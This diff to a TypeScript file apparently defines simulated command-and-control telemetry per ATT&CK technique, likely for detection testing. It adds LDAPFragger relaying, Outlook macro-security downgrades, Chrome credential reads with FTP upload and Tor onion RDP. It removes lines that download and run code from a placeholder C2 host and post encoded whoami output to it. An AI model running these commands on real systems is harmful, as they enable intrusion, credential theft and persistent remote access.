@@ -1,11 +1,88 @@
 import { t, v } from "../dsl";
 
+const OUTLOOK = "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE";
+
+/**
+ * LDAPFragger (Fox-IT): beacon traffic relayed between two network segments through the user's own AD
+ * attributes over LDAPS. It advertises in primaryInternationalISDNNumber / otherFacsimileTelephoneNumber /
+ * primaryTelexNumber and clears values once read; with auditing on user objects the DC logs each 5136.
+ */
+const ldapFragger = v(
+  "ldapfragger",
+  [
+    {
+      cmd: "{{tools}}\\LDAPFragger.exe --cshost {{c2ip}} --csport 2222",
+      net: [
+        ["{{c2ip}}", 2222],
+        ["@dc", 636],
+      ],
+      keep: true,
+      then: [
+        {
+          id: "logon",
+          kind: "logon",
+          host: "@dc",
+          session: "ldap",
+          user: "@user",
+          logonType: 3,
+          source: "@workstation",
+          authPackage: "Kerberos",
+        },
+        {
+          id: "advert",
+          kind: "directory.change",
+          host: "@dc",
+          session: "ldap",
+          object: "@user",
+          objectClass: "user",
+          changes: [
+            {
+              attribute:
+                "{{primaryInternationalISDNNumber|otherFacsimileTelephoneNumber|primaryTelexNumber}}",
+              value: "{{$advert}}",
+            },
+          ],
+          delayMs: 400,
+        },
+        {
+          id: "data",
+          kind: "directory.change",
+          host: "@dc",
+          session: "ldap",
+          object: "@user",
+          objectClass: "user",
+          changes: [{ attribute: "{{$dataAttr}}", value: "{{$frag}}" }],
+          delayMs: 3000,
+        },
+        {
+          id: "clear",
+          kind: "directory.change",
+          host: "@dc",
+          session: "ldap",
+          object: "@user",
+          objectClass: "user",
+          changes: [{ attribute: "{{$dataAttr}}", value: "{{$frag}}", op: "delete" }],
+          delayMs: 5000,
+        },
+      ],
+    },
+  ],
+  {
+    vars: {
+      dataAttr: "{{userSMIMECertificate|thumbnailPhoto|userCert}}",
+      advert: "{{MzFhNGQ5YzA|ZTA5YjRmMjE|N2M1ZDAxYmE}}{{rand2}}{{rand}}{{rand2}}",
+      frag: "VHlwZTowDQpJRDp{{rand2}}{{rand}}{{rand2}}{{rand}}",
+    },
+  },
+);
+
 /** Command and control: implant traffic and tunnelling tools as they appear on the endpoint. */
 export const commandAndControl = [
   t("T1001", "Data obfuscation", "C2 traffic hidden in innocuous-looking requests by the implant.", [
     v("beacon", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{c2}}", 443]], keep: true }], {
       shell: "none",
     }),
+    ldapFragger,
   ]),
   t("T1001.001", "Junk data", "An implant padding its HTTP traffic with junk.", [
     v("beacon", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{c2}}", 80]], keep: true }], { shell: "none" }),
@@ -23,18 +100,50 @@ export const commandAndControl = [
     ),
   ]),
   t("T1001.003", "Protocol impersonation", "C2 shaped like a known service's traffic.", [
+    ldapFragger,
     v(
       "fake-update",
       [{ cmd: "{{local}}\\Microsoft\\{{name}}.exe", net: [["update-{{c2}}", 443]], keep: true }],
       { shell: "none" },
     ),
   ]),
-  t("T1008", "Fallback channels", "An implant trying a second domain after the first fails.", [
+  t("T1008", "Fallback channels", "An implant trying a second channel after the first fails.", [
+    // The primary domain no longer resolves (taken down), so the implant falls back to its hard-coded address.
     v(
       "fallback",
-      [{ cmd: "{{appdata}}\\{{name}}.exe", dns: ["{{c2}}"], net: [["{{c2ip}}", 8443]], keep: true }],
+      [
+        {
+          cmd: "{{appdata}}\\{{name}}.exe",
+          then: [
+            { id: "primary", kind: "dns.query", name: "{{c2}}", status: 9003 },
+            { id: "backup", kind: "network.connect", remote: "{{c2ip}}", port: 8443, delayMs: 30000 },
+          ],
+          keep: true,
+        },
+      ],
       { shell: "none" },
     ),
+    // Backup channel by mail (NotDoor-style Outlook VBA): macro security lowered, the mail-triggered project
+    // saved by Outlook as VbaProject.OTM; commands arrive by e-mail when the HTTP channel is down.
+    v("outlook-vba-channel", [
+      {
+        cmd: 'reg add "HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook" /v LoadMacroProviderOnBoot /t REG_DWORD /d 1 /f',
+        reg: [
+          ["HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook", "LoadMacroProviderOnBoot", "1", "REG_DWORD"],
+        ],
+      },
+      {
+        cmd: 'reg add "HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook\\Security" /v Level /t REG_DWORD /d 1 /f',
+        reg: [["HKCU\\Software\\Microsoft\\Office\\16.0\\Outlook\\Security", "Level", "1", "REG_DWORD"]],
+      },
+      {
+        cmd: `"${OUTLOOK}" `,
+        parent: "@explorer",
+        files: ["{{appdata}}\\Microsoft\\Outlook\\VbaProject.OTM"],
+        net: [["outlook.office365.com", 443]],
+        keep: true,
+      },
+    ]),
   ]),
   t("T1071", "Application layer protocol", "C2 over standard application protocols.", [
     v("https", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{c2}}", 443]], keep: true }], { shell: "none" }),
@@ -61,9 +170,37 @@ export const commandAndControl = [
   ]),
   t("T1071.002", "File transfer protocols", "FTP used as a channel with ftp.exe -s script.", [
     v("ftp-script", [{ cmd: "ftp.exe -i -s:{{tmp}}\\{{rand}}.txt {{c2}}", net: [["{{c2}}", 21]] }]),
+    // Commodity stealers/RATs (Agent Tesla, SilverTerrier kits) log in to an FTP drop and upload reports.
+    v(
+      "implant-ftp",
+      [
+        {
+          cmd: "{{appdata}}\\{{name}}.exe",
+          reads: ["{{local}}\\Google\\Chrome\\User Data\\Default\\Login Data"],
+          net: [
+            ["ftp.{{c2}}", 21],
+            ["ftp.{{c2}}", 50123],
+          ],
+          keep: true,
+        },
+      ],
+      { shell: "none" },
+    ),
   ]),
   t("T1071.003", "Mail protocols", "SMTP/IMAP used by an implant for commands.", [
     v("smtp", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["smtp.{{c2}}", 587]] }], { shell: "none" }),
+    // Commands read from a webmail inbox over IMAPS (Zebrocy/CHOPSTICK-style use of public mail providers).
+    v(
+      "imap-poll",
+      [
+        {
+          cmd: "{{appdata}}\\{{name}}.exe",
+          net: [["imap.{{gmail.com|mail.ru|yandex.ru|seznam.cz}}", 993]],
+          keep: true,
+        },
+      ],
+      { shell: "none" },
+    ),
   ]),
   t("T1071.004", "DNS", "DNS tunnelling (dnscat2, iodine) with many TXT queries to one domain.", [
     v("dnscat2", [
@@ -123,7 +260,47 @@ export const commandAndControl = [
     ]),
   ]),
   t("T1090.003", "Multi-hop proxy", "Tor started on the host.", [
-    v("tor", [{ cmd: "{{appdata}}\\tor\\tor.exe", net: [["{{c2ip}}", 9001]], keep: true }]),
+    // Tor Expert Bundle dropped beside the implant: tor.exe builds circuits to relays (ORPort 9001/443) and
+    // offers SOCKS on 127.0.0.1:9050; the implant reaches its .onion C2 through it.
+    v(
+      "tor",
+      [
+        {
+          cmd: '"{{appdata}}\\tor\\tor.exe" -f "{{appdata}}\\tor\\torrc" SocksPort 9050',
+          as: "tor",
+          parent: "@explorer",
+          files: ["{{appdata}}\\tor\\torrc", "{{appdata}}\\tor\\data\\cached-microdesc-consensus"],
+          net: [
+            ["{{c2ip}}", 9001],
+            ["{{ip}}", 443],
+          ],
+          keep: true,
+        },
+        { cmd: "{{appdata}}\\{{name}}.exe", parent: "@explorer", net: [["127.0.0.1", 9050]], keep: true },
+      ],
+      { shell: "none" },
+    ),
+    // RDP reachable from anywhere through an onion service, Tor installed as a Windows service.
+    v(
+      "tor-onion-rdp",
+      [
+        {
+          cmd: "C:\\ProgramData\\tor\\tor.exe --service install -options -f C:\\ProgramData\\tor\\torrc",
+          files: ["C:\\ProgramData\\tor\\torrc"],
+          then: [
+            {
+              id: "svc",
+              kind: "service.install",
+              name: "tor",
+              displayName: "Tor Win32 Service",
+              imagePath: '"C:\\ProgramData\\tor\\tor.exe" --nt-service -f "C:\\ProgramData\\tor\\torrc"',
+              startType: "auto start",
+            },
+          ],
+        },
+      ],
+      { elevated: true },
+    ),
     // Tor Browser: the user starts firefox.exe, which runs the bundled tor.exe with its control and SOCKS ports.
     v(
       "tor-browser",
@@ -147,6 +324,26 @@ export const commandAndControl = [
     v("fronted", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["ajax.aspnetcdn.com", 443]], keep: true }], {
       shell: "none",
     }),
+    // Tor with the meek transport (as APT29's Tor backdoor): tor.exe runs lyrebird, which fronts through a CDN.
+    v(
+      "tor-meek",
+      [
+        {
+          cmd: '"{{appdata}}\\tor\\tor.exe" -f "{{appdata}}\\tor\\torrc"',
+          as: "tor",
+          parent: "@explorer",
+          files: ["{{appdata}}\\tor\\torrc"],
+          keep: true,
+        },
+        {
+          cmd: "{{appdata}}\\tor\\pluggable_transports\\lyrebird.exe",
+          parent: "tor",
+          net: [["ajax.aspnetcdn.com", 443]],
+          keep: true,
+        },
+      ],
+      { shell: "none" },
+    ),
   ]),
   t("T1092", "Communication through removable media", "Commands staged on a USB drive.", [
     v("usb", [
@@ -166,219 +363,5 @@ export const commandAndControl = [
       { shell: "ps" },
     ),
     v("icmp", ["{{tools}}\\icmpsh.exe -t {{c2ip}}"]),
-  ]),
-  t("T1102", "Web service", "C2 through a legitimate web service API.", [
-    v(
-      "pastebin",
-      [
-        {
-          ps: "iex (iwr -UseBasicParsing https://pastebin.com/raw/{{rand}}).Content",
-          net: [["pastebin.com", 443]],
-        },
-      ],
-      { shell: "ps" },
-    ),
-  ]),
-  t("T1102.001", "Dead drop resolver", "C2 address read from a public page.", [
-    v(
-      "github-gist",
-      [
-        {
-          ps: "$u = (iwr https://gist.githubusercontent.com/{{rand}}/raw/c2.txt).Content",
-          net: [["gist.githubusercontent.com", 443]],
-        },
-      ],
-      { shell: "ps" },
-    ),
-  ]),
-  t("T1102.002", "Bidirectional communication", "Commands and results through Telegram/Discord/Graph APIs.", [
-    v("telegram", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["api.telegram.org", 443]], keep: true }], {
-      shell: "none",
-    }),
-    v("discord", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["discord.com", 443]], keep: true }], {
-      shell: "none",
-    }),
-  ]),
-  t("T1102.003", "One-way communication", "Commands read from a web page without replies.", [
-    v(
-      "read-page",
-      [
-        {
-          ps: "iex (iwr https://docs.google.com/document/d/{{rand2}}/export?format=txt).Content",
-          net: [["docs.google.com", 443]],
-        },
-      ],
-      { shell: "ps" },
-    ),
-  ]),
-  t("T1104", "Multi-stage channels", "A first-stage loader fetching a second stage from another host.", [
-    v("stager", [
-      { cmd: "{{tmp}}\\{{rand}}.exe", as: "s1", net: [["{{c2}}", 443]] },
-      { cmd: "{{appdata}}\\{{name}}.exe", parent: "s1", net: [["cdn-{{c2}}", 443]] },
-    ]),
-  ]),
-  t("T1105", "Ingress tool transfer", "Tools downloaded with certutil, bitsadmin, curl, Invoke-WebRequest.", [
-    v("certutil-urlcache", [
-      {
-        cmd: "certutil.exe -urlcache -split -f http://{{c2}}/{{rand}}.exe C:\\Users\\Public\\{{rand}}.exe",
-        net: [["{{c2}}", 80]],
-        files: ["C:\\Users\\Public\\{{rand}}.exe"],
-      },
-    ]),
-    v("curl", [
-      {
-        cmd: "curl.exe -k -o {{tmp}}\\{{rand}}.exe https://{{c2}}/{{rand}}.exe",
-        net: [["{{c2}}", 443]],
-        files: ["{{tmp}}\\{{rand}}.exe"],
-      },
-    ]),
-    v(
-      "invoke-webrequest",
-      [
-        {
-          ps: "Invoke-WebRequest -Uri https://{{c2}}/{{rand}}.zip -OutFile $env:TEMP\\{{rand}}.zip",
-          net: [["{{c2}}", 443]],
-          files: ["{{tmp}}\\{{rand}}.zip"],
-        },
-      ],
-      { shell: "ps" },
-    ),
-    v("bitsadmin", [
-      {
-        cmd: "bitsadmin /transfer job /download /priority normal http://{{c2}}/{{rand}}.exe C:\\ProgramData\\{{rand}}.exe",
-        net: [["{{c2}}", 80]],
-      },
-    ]),
-  ]),
-  t("T1132", "Data encoding", "Base64-encoded C2 traffic.", [
-    v(
-      "b64-post",
-      [
-        {
-          ps: "$d = [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes((whoami))); iwr -Method Post -Uri https://{{c2}}/c -Body $d",
-          net: [["{{c2}}", 443]],
-        },
-      ],
-      { shell: "ps" },
-    ),
-  ]),
-  t("T1132.001", "Standard encoding", "Base64 in URLs and bodies.", [
-    v(
-      "b64-get",
-      [
-        {
-          ps: 'iwr "https://{{c2}}/q?d=$([Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($env:COMPUTERNAME)))"',
-          net: [["{{c2}}", 443]],
-        },
-      ],
-      { shell: "ps" },
-    ),
-  ]),
-  t("T1132.002", "Non-standard encoding", "A custom alphabet used by the implant.", [
-    v("implant", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{c2}}", 443]], keep: true }], {
-      shell: "none",
-    }),
-  ]),
-  t(
-    "T1219",
-    "Remote access tools",
-    "Legitimate RMM software installed for access (AnyDesk, ScreenConnect, TeamViewer).",
-    [
-      v(
-        "anydesk",
-        [
-          {
-            cmd: '"C:\\ProgramData\\AnyDesk.exe" --install "C:\\ProgramData\\AnyDesk" --start-with-win --silent',
-            net: [["relay-{{rand}}.net.anydesk.com", 443]],
-          },
-        ],
-        { elevated: true },
-      ),
-      v(
-        "screenconnect",
-        [
-          {
-            cmd: 'msiexec.exe /i "{{downloads}}\\ScreenConnect.ClientSetup.msi" /qn',
-            net: [["instance-{{rand}}-relay.screenconnect.com", 443]],
-          },
-        ],
-        { elevated: true },
-      ),
-    ],
-  ),
-  t("T1219.001", "IDE tunneling", "VS Code tunnels exposing the host.", [
-    v("code-tunnel", [
-      {
-        cmd: "{{tmp}}\\code.exe tunnel --accept-server-license-terms --name {{me}}",
-        net: [["global.rel.tunnels.api.visualstudio.com", 443]],
-      },
-    ]),
-  ]),
-  t("T1219.002", "Remote desktop software", "AnyDesk, TeamViewer, Atera, Splashtop installed silently.", [
-    v(
-      "anydesk",
-      [
-        {
-          cmd: "cmd.exe /c echo P@ss{{n}} | C:\\ProgramData\\AnyDesk.exe --set-password",
-          net: [["boot.net.anydesk.com", 443]],
-        },
-      ],
-      { elevated: true },
-    ),
-    v(
-      "teamviewer",
-      [
-        {
-          cmd: '"C:\\Program Files\\TeamViewer\\TeamViewer.exe" assign --api-token {{rand2}} --grant-easy-access',
-          net: [["router{{n}}.teamviewer.com", 443]],
-        },
-      ],
-      { elevated: true },
-    ),
-    v("atera", ["msiexec /i {{tmp}}\\setup.msi /qn IntegratorLogin={{rand}}@proton.me CompanyId=1"], {
-      elevated: true,
-    }),
-  ]),
-  t("T1219.003", "Remote access hardware", "A KVM/IP device attached; host sees a new USB HID.", [
-    v("pnp", ["pnputil /enum-devices /class Keyboard"]),
-  ]),
-  t("T1568", "Dynamic resolution", "Implant resolving algorithmically chosen domains.", [
-    v(
-      "dga",
-      [
-        {
-          cmd: "{{appdata}}\\{{name}}.exe",
-          dns: ["{{rand2}}.com", "{{rand}}{{rand}}.net", "{{rand2}}.biz"],
-          net: [["{{c2}}", 443]],
-        },
-      ],
-      { shell: "none" },
-    ),
-  ]),
-  t("T1568.001", "Fast flux DNS", "A domain with rapidly changing answers queried repeatedly.", [
-    v("flux", [{ cmd: "{{appdata}}\\{{name}}.exe", dns: ["{{c2}}", "{{c2}}", "{{c2}}"] }], { shell: "none" }),
-  ]),
-  t("T1568.002", "Domain generation algorithms", "Many NXDOMAIN lookups of random-looking names.", [
-    v(
-      "dga",
-      [
-        {
-          cmd: "{{appdata}}\\{{name}}.exe",
-          then: ["a", "b", "c", "d", "e", "f"].map((x, n) => ({
-            id: `q${n}`,
-            kind: "dns.query" as const,
-            name: `${x}{{rand2}}{{rand}}.com`,
-            status: 9003,
-          })),
-          net: [["{{c2}}", 443]],
-        },
-      ],
-      { shell: "none" },
-    ),
-  ]),
-  t("T1568.003", "DNS calculation", "The C2 port derived from a resolved address.", [
-    v("calc", [{ cmd: "{{appdata}}\\{{name}}.exe", dns: ["{{c2}}"], net: [["{{c2ip}}", 8081]] }], {
-      shell: "none",
-    }),
   ]),
 ];
